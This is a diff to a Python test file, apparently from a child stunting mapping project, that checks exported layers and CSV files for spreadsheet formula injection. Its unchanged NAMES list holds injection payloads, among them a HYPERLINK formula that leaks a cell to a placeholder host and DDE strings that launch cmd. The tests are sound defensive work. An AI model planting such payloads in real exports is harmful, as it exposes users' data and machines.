@@ -19,6 +19,7 @@ from layers.printed import MapRequest
 from peta_anak.core.safe_cells import FORMULA_START, csv_cell
 from tests.aggregate_values import load_aggregates
 from tests.boundary_files import villages_frame, write
+from tests.release_steps import approve
 
 NAMES = ['=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
          "+1+2 Desa $x^2$ Satu"]
@@ -67,11 +68,12 @@ def test_priority_and_scenario_files_hold_no_formula(poisoned):
     assert any(cell.lstrip("-").isdigit() for row in rows[1:] for cell in row)  # numbers stay numbers
 
 
-def test_layer_attributes_hold_no_formula(poisoned):
+def test_layer_attributes_hold_no_formula(poisoned, tmp_path):
     user = users.by_name(poisoned, "perencana")
     for suffix in (".gpkg", ".geojson"):
-        content = exports.export_layer(poisoned, user, "stunting", "2025", "desa", suffix).content
-        frame = gpd.read_file(io.BytesIO(content))
+        path = tmp_path / f"lapisan{suffix}"  # read from a named file: GDAL checks the extension
+        path.write_bytes(exports.export_layer(poisoned, user, "stunting", "2025", "desa", suffix).content)
+        frame = gpd.read_file(path)
         for column in ("nama", "kecamatan", "keterangan_kelas"):
             assert not any(str(v).startswith(FORMULA_START) for v in frame[column].dropna()), (suffix, column)
         assert csv_cell(NAMES[0]) in set(frame["nama"])
@@ -86,6 +88,7 @@ def test_aggregate_export_and_public_csv_hold_no_formula(poisoned, run, tmp_path
     release = json.loads(result.output)["id"]
     assert run("release", "export", release, tmp_path / "rilis").exit_code == 0
     _check_csv((tmp_path / "rilis" / "rilis.csv").read_bytes(), "rilis.csv")
+    approve(poisoned, release)  # only an approved release is built
     assert run("public", "build", tmp_path / "situs").exit_code == 0
     _check_csv((tmp_path / "situs" / "unduh" / "rilis.csv").read_bytes(), "public rilis.csv")
 
